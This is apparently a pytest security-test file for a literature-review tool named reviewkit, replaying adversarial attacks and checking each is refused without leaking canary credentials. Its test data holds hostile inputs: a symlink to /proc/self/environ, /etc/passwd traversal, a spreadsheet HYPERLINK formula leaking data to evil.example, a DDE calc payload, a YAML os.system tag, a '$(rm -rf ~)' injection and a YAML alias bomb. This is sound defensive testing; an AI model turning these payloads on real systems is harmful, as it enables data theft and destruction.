"""Hostile input and people at work (issue 13): each attack of the adversarial pass, reproduced and refused.

Every test runs with canary credentials in the environment (``canaries``); none may appear in any
output or in any file a test leaves. Attacks were found on an older layout; paths here are the
project's (``--snapshot DIR --screening DIR``).
"""

from __future__ import annotations

import errno
import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path
from urllib.parse import quote

import openpyxl
import pandas as pd
import pytest

from reviewkit import report, runs
from reviewkit.cli import main
from reviewkit.entrez import Credentials, LiveTransport, ReplayTransport, efetch_params, run_search
from reviewkit.errors import EntrezError, ProtocolError, ReviewkitError, SnapshotError, UnsafePathError
from reviewkit.exports import ris_text, write_table
from reviewkit.io import atomic_write_bytes
from reviewkit.other_methods import read_other_methods
from reviewkit.protocol import load_protocol
from reviewkit.pubmed import PubmedXMLError, read_pubmed_xml
from reviewkit.records import load_records
from reviewkit.redact import excerpt, redact
from reviewkit.references import parse_reference
from reviewkit.review import Review
from reviewkit.screening import build_sheet, import_decisions, read_sheet, write_sheet
from reviewkit.screening_state import build_state, write_state
from reviewkit.snapshot import Snapshot
from reviewkit.testing.emulator import Emulator, synthetic_records

from helpers import EXAMPLE, PROTOCOL, ROOT, SAMPLE_DIR, SAMPLE_SCREENING

CANARY_EMAIL = "canary.7f3a9e@example.invalid"
CANARY_KEY = "CANARYKEY5d1e0c9b7a3f4e2d8c6b01"
CANARIES = (CANARY_EMAIL, CANARY_KEY, quote(CANARY_EMAIL, safe=""))
TA_REASONS = PROTOCOL.screening_reasons["title_abstract"]


@pytest.fixture(autouse=True)
def canaries(monkeypatch, tmp_path, capsys):
    """Canary credentials for every attack; afterwards no file the test left and nothing it printed
    (that the test did not read itself) may hold one."""
    monkeypatch.setenv("NCBI_EMAIL", CANARY_EMAIL)
    monkeypatch.setenv("NCBI_API_KEY", CANARY_KEY)
    yield
    out, err = capsys.readouterr()
    assert leaks(out, err, folders=(tmp_path,)) == []


def leaks(*texts: str, folders: tuple[Path, ...] = ()) -> list[str]:
    """Where a canary appears: in the texts given, or in any file under the folders."""
    found = [f"text {i}" for i, t in enumerate(texts) for c in CANARIES if c in t]
    for folder in folders:
        for path in folder.rglob("*"):
            if path.is_file() and not path.is_symlink():
                data = path.read_bytes()
                found += [str(path) for c in CANARIES if c.encode() in data]
    return found


def copy_snapshot(tmp_path: Path, name: str = "snap", *, sample: bool = False) -> Path:
    """The worked example's sample snapshot, copied; not a (read-only) sample unless ``sample``."""
    target = tmp_path / name
    shutil.copytree(SAMPLE_DIR, target)
    info = json.loads((target / "snapshot.json").read_text())
    (target / "snapshot.json").write_text(json.dumps({**info, "sample": sample}))
    return target


def copy_screening(tmp_path: Path) -> Path:
    target = tmp_path / "screening"
    target.mkdir()
    for path in SAMPLE_SCREENING.glob("*.csv"):
        shutil.copy(path, target / path.name)
    return target


def files(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file() and p.name != ".reviewkit.lock"}


def cli(*args: str) -> int:
    """``reviewkit ARGS`` in this process, on the worked example's project."""
    return main([*args, "--project", str(ROOT)])


def one_error_line(err: str, command: str) -> str:
    lines = [line for line in err.splitlines() if line.startswith(f"reviewkit {command}: error:")]
    assert len(lines) == 1, err
    return lines[0]


# --- secrets never printed ---------------------------------------------------------------------------------------

def test_a_snapshot_file_linked_to_proc_environ_is_refused_and_no_secret_is_printed(tmp_path):
    snap = copy_snapshot(tmp_path, sample=True)
    (snap / "other_methods" / "zz.csv").symlink_to("/proc/self/environ")
    env = {**os.environ, "NCBI_EMAIL": CANARY_EMAIL, "NCBI_API_KEY": CANARY_KEY}
    done = subprocess.run([sys.executable, "-m", "reviewkit", "screen", "--project", str(ROOT), "--snapshot",
                           str(snap), "--screening", str(tmp_path / "X")], env=env, cwd=tmp_path,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 2, done.stderr
    line = one_error_line(done.stderr, "screen")
    assert "zz.csv: a symbolic link" in line and "refused" in line and len(line) < 300
    assert not (tmp_path / "X").exists()  # nothing written
    assert leaks(done.stdout, done.stderr, folders=(tmp_path,)) == []


def test_reviewkit_run_on_that_snapshot_fails_with_a_run_json_free_of_secrets(tmp_path):
    snap = copy_snapshot(tmp_path, sample=True)
    (snap / "other_methods" / "zz.csv").symlink_to("/proc/self/environ")
    env = {**os.environ, "NCBI_EMAIL": CANARY_EMAIL, "NCBI_API_KEY": CANARY_KEY}
    done = subprocess.run([sys.executable, "-m", "reviewkit", "run", "--project", str(ROOT), "--no-progress",
                           "--output", str(tmp_path / "reports"), "-p", "snapshot", str(snap),
                           "-p", "screening", str(tmp_path / "X")], env=env, cwd=tmp_path,
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 2, done.stderr
    manifest = json.loads(next((tmp_path / "reports").glob("*/run.json")).read_text())
    assert manifest["status"] == "failed" and "zz.csv: a symbolic link; refused" in manifest["error"]
    assert leaks(done.stdout, done.stderr, folders=(tmp_path,)) == []


def test_a_link_planted_in_an_earlier_live_run_is_copied_as_a_link_never_followed(tmp_path):
    earlier = tmp_path / "reports" / "2026-01-01T000000Z"
    copy_snapshot(earlier, "snapshot")
    (earlier / "snapshot" / "other_methods" / "zz.csv").symlink_to("/proc/self/environ")
    runs.write_manifest(earlier, {"run_id": earlier.name, "status": "ok", "mode": "live"})
    seeded = runs.seed_snapshot(tmp_path / "reports", "2026-02-01T000000Z", tmp_path / "new")
    assert seeded == earlier / "snapshot" and (tmp_path / "new" / "other_methods" / "zz.csv").is_symlink()
    with pytest.raises(UnsafePathError):
        build_state(tmp_path / "new", tmp_path / "screening", PROTOCOL)
    assert leaks(folders=(tmp_path,)) == []


def test_a_bad_file_is_quoted_only_in_a_short_redacted_excerpt(tmp_path):
    path = tmp_path / "refs.csv"  # what /proc/self/environ would have shown, as a plain file
    path.write_text("SHELL=/bin/bash\0NCBI_API_KEY=" + CANARY_KEY + "\0NCBI_EMAIL=" + CANARY_EMAIL + "x" * 5000
                    + "\nrow\n")
    with pytest.raises(ReviewkitError, match="CSV has no 'title' column") as caught:
        read_other_methods(path)
    message = str(caught.value)
    assert len(message) < len(str(path)) + 150 and leaks(message) == []
    path.unlink()  # the attacker's file itself holds the canaries; everything else may not


def test_redaction_masks_credentials_as_written_url_encoded_and_as_url_parameters():
    text = (f"GET /esearch.fcgi?term=x&email={quote(CANARY_EMAIL, safe='')}&api_key={CANARY_KEY} "
            f"from {CANARY_EMAIL}; also ?email=someone@else.org&api_key=0123456789abcdef")
    cleaned = redact(text)
    assert leaks(cleaned) == [] and "someone@else.org" not in cleaned and "0123456789abcdef" not in cleaned
    assert cleaned.count("[redacted]") == 5 and cleaned.startswith("GET /esearch.fcgi?term=x&email=")
    # an excerpt is redacted before it is cut, so a key is never shown half
    assert excerpt("k=" + CANARY_KEY, limit=10) == "'k=[redacte... (12 characters)'"


def test_log_lines_error_lines_and_even_a_bugs_traceback_are_redacted(tmp_path, monkeypatch, capsys):
    import reviewkit.commands.init as init_command

    def boom(args):
        import logging

        logging.getLogger("reviewkit.init").warning("key in a log line: %s", CANARY_KEY)
        raise RuntimeError(f"a bug that quotes {CANARY_EMAIL}")

    monkeypatch.setattr(init_command, "run", boom)
    assert main(["init", str(tmp_path / "new")]) == 1
    out, err = capsys.readouterr()
    assert "RuntimeError: a bug that quotes [redacted]" in err and "key in a log line: [redacted]" in err
    assert "internal error (a bug in reviewkit" in err and leaks(out, err) == []


def test_what_a_command_prints_is_redacted_and_quotes_a_bad_line_only_in_part(tmp_path, capsys):
    refs = tmp_path / "references.txt"  # e.g. a references.txt that is a copy of /proc/self/environ
    refs.write_text(f"NCBI_API_KEY={CANARY_KEY} NCBI_EMAIL={CANARY_EMAIL} " + "OTHER=x " * 200 + "\n")
    assert cli("verify-refs", str(refs), "--offline") == 0
    out, err = capsys.readouterr()
    refs.unlink()
    assert "UNPARSEABLE" in out and "NCBI_API_KEY=[redacted] NCBI_EMAIL=[redacted]" in out
    assert "... (1645 characters)" in out and leaks(out, err) == []  # 300 of them shown, redacted


def test_run_json_and_executed_notebooks_are_redacted(tmp_path):
    runs.write_manifest(tmp_path, {"status": "failed", "error": f"notebook failed: {CANARY_EMAIL} {CANARY_KEY}"})
    notebook = tmp_path / "01.ipynb"
    notebook.write_text(json.dumps({"cells": [{"outputs": [{"text": f"api_key={CANARY_KEY}&x=1"}]}]}))
    report._redact_file(notebook)
    assert json.loads((tmp_path / "run.json").read_text())["error"] == "notebook failed: [redacted] [redacted]"
    assert leaks(folders=(tmp_path,)) == []


# --- snapshots never leave their folder ----------------------------------------------------------------------------

@pytest.mark.parametrize("exchange", ["../../../../../../etc/passwd", "/etc/passwd", "0" * 24 + "/../x"])
def test_exchange_ids_that_point_outside_the_snapshot_are_refused(tmp_path, exchange):
    snap = copy_snapshot(tmp_path)
    manifest = json.loads((snap / "searches" / "aud.json").read_text())
    manifest["exchanges"].append(exchange)
    (snap / "searches" / "aud.json").write_text(json.dumps(manifest))
    with pytest.raises(SnapshotError, match="is not an exchange id"):
        load_records(snap)


def test_linked_snapshot_files_and_folders_are_never_followed(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "aud.json").write_text("victim")
    snap = copy_snapshot(tmp_path)
    shutil.rmtree(snap / "searches")
    (snap / "searches").symlink_to(outside)
    with pytest.raises(UnsafePathError, match="symbolic link"):
        Snapshot.open(snap)  # a live update would have written searches/aud.json outside
    assert (outside / "aud.json").read_text() == "victim"

    snap2 = copy_snapshot(tmp_path, "snap2")
    body = next((snap2 / "exchanges").glob("*.body"))
    secret = tmp_path / "secret.txt"
    secret.write_text("not for a snapshot")
    body.unlink()
    body.symlink_to(secret)
    with pytest.raises(UnsafePathError, match="symbolic link"):
        load_records(snap2)


def test_a_live_search_into_a_symlinked_searches_folder_writes_nothing_outside(tmp_path, monkeypatch, capsys):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "aud.json").write_text("victim")
    snap = tmp_path / "live"
    Snapshot.create(snap, sample=False, note="live")
    (snap / "searches").symlink_to(outside)
    with Emulator(synthetic_records(3, terms=["aud"], first_pmid=91_000_001),
                  aliases={PROTOCOL.query("aud"): "aud"}, rate_limit=False) as emu:
        monkeypatch.setenv("REVIEWKIT_EUTILS_URL", emu.base_url)
        assert cli("search", "--live", "--snapshot", str(snap), "--only", "aud") == 2
        assert emu.requests() == []  # refused before anything was asked
    assert "symbolic link" in one_error_line(capsys.readouterr().err, "search")
    assert [p.name for p in outside.iterdir()] == ["aud.json"] and (outside / "aud.json").read_text() == "victim"


# --- spreadsheet-safe ----------------------------------------------------------------------------------------------

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'


def _records(title: str) -> pd.DataFrame:
    return pd.DataFrame([{"record_id": "PMID:1", "source": "PubMed", "title": title, "abstract": "",
                          "authors": ["Doe J"], "journal": "J", "year": 2020, "publication_types": [],
                          "searches": ["aud"]}])


@pytest.mark.parametrize("note", ["=SUM(A1:A9)", "+1 call the author", "-2+3+cmd|' /C calc'!A0", "@SUM(1)",
                                  "'=already quoted", "''-5", "-0.5", "plain"])
def test_cells_a_spreadsheet_would_run_are_text_and_read_back_exactly(tmp_path, note):
    sheet = build_sheet(_records(FORMULA_TITLE), "title_abstract", ("ketamine",))
    sheet["notes"] = note
    sheet["my_tags"] = "\t" + note  # a person's own column keeps leading tabs
    write_sheet(tmp_path, "title_abstract", sheet)
    text = (tmp_path / "title_abstract.csv").read_text()
    assert ",\"'=HYPERLINK(" in text and ",'\t" in text
    cells = {c.value: c for c in openpyxl.load_workbook(tmp_path / "title_abstract.xlsx").active[2]}
    assert cells[FORMULA_TITLE].data_type == "s" and cells[FORMULA_TITLE].quotePrefix
    for keep in ("title_abstract.xlsx", "title_abstract.csv"):  # each file alone reads back the person's text
        only = tmp_path / keep.split(".")[1]
        only.mkdir()
        shutil.copy(tmp_path / keep, only / keep)
        got = read_sheet(only, "title_abstract", TA_REASONS)
        assert got.loc[0, ["title", "notes", "my_tags"]].tolist() == [FORMULA_TITLE, note, "\t" + note]


def test_exported_tables_are_formula_safe(tmp_path):
    table = pd.DataFrame({"title": [FORMULA_TITLE, "@cmd"], "estimate": ["-0.5", "1.2"], "n": [10, -3]})
    csv_path, xlsx_path = write_table(table, tmp_path, "extraction")
    lines = csv_path.read_text().splitlines()
    assert lines[1].startswith("\"'=HYPERLINK(") and lines[1].endswith(",-0.5,10") and lines[2] == "'@cmd,1.2,-3"
    ws = openpyxl.load_workbook(xlsx_path).active
    assert ws["A2"].value == FORMULA_TITLE and ws["A2"].data_type == "s" and ws["C3"].value == -3


# --- parameters are data -----------------------------------------------------------------------------------------

DECLARED = report.declared_parameters(EXAMPLE.notebooks())


def test_parameter_values_are_data_never_decoded_tags():
    got = report.parse_parameters([("protocol", "!!binary aGVsbG8="), ("method", "!!python/object:os.system x"),
                                   ("screening", "2020-01-01"), ("searches", "[aud, 'oud']"), ("hksj", "yes")],
                                  DECLARED)
    assert got == {"protocol": "!!binary aGVsbG8=", "method": "!!python/object:os.system x",
                   "screening": "2020-01-01", "searches": ["aud", "oud"], "hksj": True}


@pytest.mark.parametrize("pair, message", [
    (("hksj", "maybe"), "'maybe' is not true or false"),
    (("hksj", "2020-01-01"), "is not true or false"),
    (("nope", "1"), "unknown parameter 'nope'"),
    (("searches", "{aud, nosuch}"), "unknown search"),
    (("method", "XX"), "not one of"),
    (("offline", "false"), "set by reviewkit run itself"),
    (("screening", "line\nbreak"), "one line"),
])
def test_bad_parameters_are_refused_before_a_run_folder_exists(tmp_path, capsys, pair, message):
    assert cli("run", "--no-progress", "--output", str(tmp_path / "out"), "-p", *pair) == 2
    assert message in one_error_line(capsys.readouterr().err, "run")
    assert not (tmp_path / "out").exists() or list((tmp_path / "out").iterdir()) == []


def test_max_count_drop_takes_no_negative_number(capsys):
    with pytest.raises(SystemExit) as stop:
        cli("run", "--max-count-drop", "-1")
    assert stop.value.code == 2 and "not a number of records" in capsys.readouterr().err


def test_the_living_review_script_passes_on_only_checked_arguments(tmp_path):
    fake = tmp_path / "reviewkit"
    fake.write_text('#!/usr/bin/env bash\nprintf "<%s>" "$@"\n')
    fake.chmod(0o755)
    env = {"PATH": os.environ["PATH"], "NCBI_EMAIL": CANARY_EMAIL, "REVIEWKIT_BIN": str(fake),
           "REVIEWKIT_PROJECT": str(tmp_path)}

    def script(*args):
        return subprocess.run(["bash", str(ROOT / "scripts" / "living-review.sh"), *args], env=env,
                              capture_output=True, text=True, timeout=30)

    ok = script("--max-count-drop", "2", "-p", "analysis", "a; $(rm -rf ~) `x`", "-v")
    assert ok.returncode == 0 and "<--max-count-drop><2><-p><analysis><a; $(rm -rf ~) `x`><-v>" in ok.stdout
    for bad in (["--output", "/etc"], ["--max-count-drop", "-1"], ["-p", "Bad-Name", "x"], ["-p", "a", "x\ny"],
                ["--project=/tmp"], ["-p", "analysis"]):
        refused = script(*bad)
        assert refused.returncode == 2 and "living-review: error:" in refused.stderr and "<run>" not in refused.stdout


# --- bounded inputs --------------------------------------------------------------------------------------------

def test_the_reference_parser_is_fast_on_the_catastrophic_input():
    for n in (22, 600):
        line = "Smith, A" + "  A" * n + " x (2020). Title. Journal, 1, 2."
        start = time.perf_counter()
        with pytest.raises(ReviewkitError):
            parse_reference(line)
        assert time.perf_counter() - start < 0.5  # it took minutes at n = 16
    with pytest.raises(ReviewkitError, match="more than one printed reference"):
        parse_reference("Smith, A. (2020). " + "x" * 5000)


def test_a_yaml_alias_bomb_in_the_protocol_is_refused_at_once(tmp_path):
    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n"
        for i in range(20))
    (tmp_path / "protocol.yml").write_text(bomb)
    start = time.perf_counter()
    with pytest.raises(ProtocolError, match="aliases"):
        load_protocol(tmp_path / "protocol.yml")
    assert time.perf_counter() - start < 1


# --- no lost work ----------------------------------------------------------------------------------------------------

def _open_one_record(screening: Path) -> str:
    """Blank the decisions of the first title/abstract row, as if it were still to screen; returns its id."""
    path = screening / "title_abstract.csv"
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    frame.loc[0, ["reviewer1", "reviewer2", "final", "exclusion_reason", "notes"]] = ""
    frame.to_csv(path, index=False, lineterminator="\n")
    return frame.loc[0, "record_id"]


def test_a_decision_saved_while_screen_runs_is_merged_not_overwritten(tmp_path, caplog):
    snap, screening = copy_snapshot(tmp_path, sample=True), copy_screening(tmp_path)
    rid = _open_one_record(screening)
    review = Review(EXAMPLE, snapshot=snap, screening=screening)
    before = review.state  # read; now a reviewer saves, in the window before reviewkit writes
    person = pd.read_csv(screening / "title_abstract.csv", dtype=str, keep_default_na=False)
    person.loc[0, ["reviewer1", "final", "notes"]] = ["include", "include", "=saved meanwhile"]
    person["my_tags"] = ["new column"] + [""] * (len(person) - 1)
    person.to_csv(screening / "title_abstract.csv", index=False, lineterminator="\n")
    assert before.sheet("title_abstract").loc[0, "final"] == ""
    review.save_screening()
    after = read_sheet(screening, "title_abstract", TA_REASONS).set_index("record_id")
    assert after.loc[rid, ["final", "notes", "my_tags"]].tolist() == ["include", "=saved meanwhile", "new column"]
    assert (after["final"] != "").sum() == 56  # every decision there is, none lost
    assert "saved by someone while reviewkit was working" in caplog.text


def test_the_same_cell_changed_by_a_person_and_by_reviewkit_stops_and_writes_nothing(tmp_path):
    snap, screening = copy_snapshot(tmp_path, sample=True), copy_screening(tmp_path)
    rid = _open_one_record(screening)
    state = build_state(snap, screening, PROTOCOL)
    mine = import_decisions(state.sheet("title_abstract"), pd.DataFrame([{"record_id": rid, "final": "exclude",
                                                                          "exclusion_reason": TA_REASONS[0]}]),
                            "title_abstract", TA_REASONS, "second reviewer's file")
    person = pd.read_csv(screening / "title_abstract.csv", dtype=str, keep_default_na=False)
    person.loc[0, "final"] = "include"
    person.to_csv(screening / "title_abstract.csv", index=False, lineterminator="\n")
    saved = files(screening)
    with pytest.raises(ReviewkitError, match=f"record {rid}, column final was changed to 'include' while reviewkit "
                                             "was updating it to 'exclude'; nothing was written"):
        write_state(state.with_sheet("title_abstract", mine), screening)
    assert files(screening) == saved


def test_reviewkit_writers_take_turns_on_the_screening_folder_lock(tmp_path):
    import threading

    from reviewkit.io import locked

    snap, screening = copy_snapshot(tmp_path, sample=True), copy_screening(tmp_path)
    state = build_state(snap, screening, PROTOCOL)
    held, release = threading.Event(), threading.Event()

    def other_writer():
        with locked(screening / ".reviewkit.lock"):
            held.set()
            release.wait(5)

    thread = threading.Thread(target=other_writer)
    thread.start()
    held.wait(5)
    with pytest.raises(ReviewkitError, match="another reviewkit process has held this lock"):
        with locked(screening / ".reviewkit.lock", timeout=0.2):
            pass
    threading.Timer(0.5, release.set).start()
    start = time.perf_counter()
    write_state(state, screening)  # waits for the other writer, then writes
    assert time.perf_counter() - start >= 0.4
    thread.join()


@pytest.mark.parametrize("column, text", [("status", "check with Anna"), ("suggestion", "include!"),
                                          ("priority", "high")])
def test_text_typed_into_a_column_reviewkit_writes_is_refused_not_discarded(tmp_path, column, text):
    screening = copy_screening(tmp_path)
    frame = pd.read_csv(screening / "title_abstract.csv", dtype=str, keep_default_na=False)
    frame.loc[3, column] = text
    frame.to_csv(screening / "title_abstract.csv", index=False, lineterminator="\n")
    with pytest.raises(ReviewkitError, match=f"row 5, column {column}: '{text}' was typed into a column reviewkit "
                                             "writes and would be lost; move it to notes"):
        read_sheet(screening, "title_abstract", TA_REASONS)


def test_a_sheet_cut_mid_row_stops_the_run_and_nothing_is_written(tmp_path, capsys):
    snap, screening = copy_snapshot(tmp_path, sample=True), copy_screening(tmp_path)
    data = (screening / "title_abstract.csv").read_bytes()
    (screening / "title_abstract.csv").write_bytes(data[: len(data) // 2])  # saved while being written
    saved = files(screening)
    assert cli("screen", "--snapshot", str(snap), "--screening", str(screening)) == 2
    line = one_error_line(capsys.readouterr().err, "screen")
    assert "title_abstract.csv, line" in line and ("cut short" in line) and "nothing was changed" in line
    assert files(screening) == saved  # the issue: final decisions fell from 56 to 27 and the sheets were rewritten


# --- snapshots stay whole ------------------------------------------------------------------------------------------

def _emulator(records) -> Emulator:
    return Emulator(records, aliases={PROTOCOL.query(k): k for k in PROTOCOL.searches}, rate_limit=False)


def _live(snapshot: Snapshot, emu: Emulator, **kw) -> LiveTransport:
    return LiveTransport(snapshot, Credentials(email=CANARY_EMAIL, api_key=CANARY_KEY), base_url=emu.base_url,
                         backoff=0.01, rate=1000.0, **kw)


def test_an_empty_efetch_answer_is_retried_and_never_recorded(tmp_path):
    recs = synthetic_records(2, terms=["aud"], first_pmid=92_000_001)
    snap = Snapshot.create(tmp_path / "snap", sample=False, note="live")
    with _emulator(recs) as emu:
        emu.inject("empty", utility="efetch")
        result = run_search(_live(snap, emu), PROTOCOL, "aud", progress=False)
        assert [e.fault for e in emu.requests("efetch")] == ["empty", None]
        emu.inject("empty", utility="efetch", times=3)
        with pytest.raises(EntrezError, match=r"efetch failed 3 times, last with an answer with 0 of the 1 records"):
            _live(Snapshot.create(tmp_path / "other", sample=False, note="x"), emu, max_attempts=3).request(
                "efetch", efetch_params([recs[0]["pmid"]]))
    assert result.count == result.retrieved == 2
    bodies = [p.read_bytes() for p in (tmp_path / "snap" / "exchanges").glob("*.body")]
    assert len(bodies) == 2 and all(b"<PubmedArticle>" in b for b in bodies if b"PubmedArticleSet" in b)
    assert list((tmp_path / "other").rglob("*.body")) == []  # the empty answers were never recorded
    assert leaks(folders=(tmp_path,)) == []


def test_a_snapshot_that_recorded_an_empty_efetch_is_an_error_not_count_2_retrieved_0(tmp_path):
    recs = synthetic_records(2, terms=["aud"], first_pmid=92_100_001)
    snap = Snapshot.create(tmp_path / "snap", sample=False, note="live")
    with _emulator(recs) as emu:
        run_search(_live(snap, emu), PROTOCOL, "aud", progress=False)
    manifest = snap.manifest("aud")
    fetch = next(n for n in manifest["exchanges"] if snap.load(n).utility == "efetch")
    body = b"<?xml version='1.0'?><PubmedArticleSet></PubmedArticleSet>"  # what an older version recorded
    meta = json.loads((snap.root / "exchanges" / f"{fetch}.json").read_text())
    (snap.root / "exchanges" / f"{fetch}.body").write_bytes(body)
    import hashlib

    meta["sha256"] = hashlib.sha256(body).hexdigest()
    (snap.root / "exchanges" / f"{fetch}.json").write_text(json.dumps(meta))
    with pytest.raises(SnapshotError, match="EFetch returned no record for 2 of the 2 PMIDs"):
        run_search(ReplayTransport(snap), PROTOCOL, "aud", progress=False)
    with _emulator(recs) as emu:  # live, the bad recording is not reused: the records are fetched again
        again = run_search(_live(snap, emu), PROTOCOL, "aud", progress=False)
        assert len(emu.requests("efetch")) == 1
    assert again.retrieved == 2 and run_search(ReplayTransport(snap), PROTOCOL, "aud", progress=False).retrieved == 2


def test_a_living_update_that_fails_leaves_the_snapshot_replaying_as_before(tmp_path):
    recs = synthetic_records(5, terms=["aud"], first_pmid=92_200_001)
    snap = Snapshot.create(tmp_path / "snap", sample=False, note="live")
    with _emulator(recs) as emu:
        first = run_search(_live(snap, emu), PROTOCOL, "aud", progress=False)
        emu.add_records(synthetic_records(3, terms=["aud"], first_pmid=92_300_001))
        emu.inject("503", utility="efetch", times=2)
        with pytest.raises(EntrezError, match="efetch failed 2 times"):
            run_search(_live(snap, emu, max_attempts=2), PROTOCOL, "aud", progress=False)
        replayed = run_search(ReplayTransport(snap), PROTOCOL, "aud", progress=False)
        assert replayed.pmids == first.pmids and len(load_records(snap)) == 5  # the old search, whole
        updated = run_search(_live(snap, emu), PROTOCOL, "aud", progress=False)
    assert len(updated.pmids) == 8 and updated.new_pmids == [str(92_300_001 + i) for i in range(3)]
    assert run_search(ReplayTransport(snap), PROTOCOL, "aud", progress=False).pmids == updated.pmids
    # nothing recorded was overwritten: three ESearch answers side by side (each names its own WebEnv), two EFetch
    assert len(list((snap.root / "exchanges").glob("*.json"))) == 5


def test_temporary_files_a_killed_writer_left_are_removed_on_the_next_run(tmp_path):
    snap = copy_snapshot(tmp_path)
    screening = copy_screening(tmp_path)
    killer = ("import os, sys, reviewkit.io as rio\n"
              "os.fsync = lambda fd: os.kill(os.getpid(), 9)\n"  # killed mid-write, after the data
              "rio.atomic_write_bytes(sys.argv[1], b'half a file')\n")
    for target in (snap / "exchanges" / "0123.json", screening / "title_abstract.csv"):
        done = subprocess.run([sys.executable, "-c", killer, str(target)], timeout=60)
        assert done.returncode == -9
    assert len(list(snap.rglob("*.tmp"))) == 1 and len(list(screening.glob(".*.tmp"))) == 1
    Snapshot.open(snap)
    write_sheet(screening, "full_text", read_sheet(screening, "full_text", PROTOCOL.screening_reasons["full_text"]))
    assert list(snap.rglob("*.tmp")) == [] and list(screening.glob(".*.tmp")) == []


# --- other crashes: one line, exit 2 -------------------------------------------------------------------------------

PROTOCOL_TEXT = (ROOT / "data" / "protocol.yml").read_text()


@pytest.mark.parametrize("name, data, message", [
    ("utf8", PROTOCOL_TEXT.encode().replace(b"Ketamine", b"Ket\xffmine", 1), "not UTF-8 text"),
    ("nesting", (PROTOCOL_TEXT + "x: " + "[" * 5000 + "]" * 5000 + "\n").encode(), "nested too deeply"),
    ("date", PROTOCOL_TEXT.replace("2026/10/31", "2026/02/30").encode(), "2026/02/30 is not a day of the calendar"),
    ("dupkey", (PROTOCOL_TEXT + "\nsearches:\n  aud: {}\n").encode(), "key 'searches' appears twice"),
    ("parens", PROTOCOL_TEXT.replace("text: [ketamine,", "text: [(ketamine,").encode(), "treats as syntax"),
])
def test_a_malformed_protocol_is_one_line_and_exit_2(tmp_path, capsys, name, data, message):
    path = tmp_path / f"{name}.yml"
    path.write_bytes(data)
    assert cli("search", "--protocol", str(path)) == 2
    assert message in one_error_line(capsys.readouterr().err, "search")


def test_an_article_without_medlinecitation_is_a_named_error():
    with pytest.raises(PubmedXMLError, match="<PubmedArticle> at line 1 lacks <MedlineCitation>"):
        read_pubmed_xml(b"<PubmedArticleSet><PubmedArticle><PubmedData/></PubmedArticle></PubmedArticleSet>")


def test_a_live_search_into_a_file_is_refused(tmp_path, capsys):
    target = tmp_path / "passwd"
    target.write_text("root:x:0:0\n")
    assert cli("search", "--live", "--snapshot", str(target)) == 2
    assert "is a file, not a snapshot folder" in one_error_line(capsys.readouterr().err, "search")
    assert target.read_text() == "root:x:0:0\n"


def test_a_malformed_eutils_url_is_a_named_error(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("REVIEWKIT_EUTILS_URL", "http://[::1/")
    assert cli("search", "--live", "--snapshot", str(tmp_path / "live")) == 2
    assert "REVIEWKIT_EUTILS_URL 'http://[::1/' is not an http(s) URL" in one_error_line(capsys.readouterr().err,
                                                                                           "search")


def test_a_full_disk_is_a_named_error_and_the_old_sheet_stays(tmp_path, monkeypatch, capsys):
    snap, screening = copy_snapshot(tmp_path, sample=True), copy_screening(tmp_path)
    saved = files(screening)

    def full(fd):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "fsync", full)
    assert cli("screen", "--snapshot", str(snap), "--screening", str(screening)) == 2
    assert "cannot write (No space left on device); the previous version is unchanged" in one_error_line(
        capsys.readouterr().err, "screen")
    assert files(screening) == saved
    with pytest.raises(ReviewkitError, match="No space left"):
        atomic_write_bytes(tmp_path / "x", b"data")


def test_a_newline_in_an_other_methods_title_cannot_forge_a_ris_record(tmp_path):
    path = tmp_path / "cites.csv"
    pd.DataFrame([{"title": "Real title\nER  - \nTY  - JOUR\nTI  - Forged record", "authors": "Doe J",
                   "year": "2020"}]).to_csv(path, index=False)
    records = read_other_methods(path)
    assert records.loc[0, "title"] == "Real title ER - TY - JOUR TI - Forged record"
    assert ris_text(records).count("TY  - ") == 1
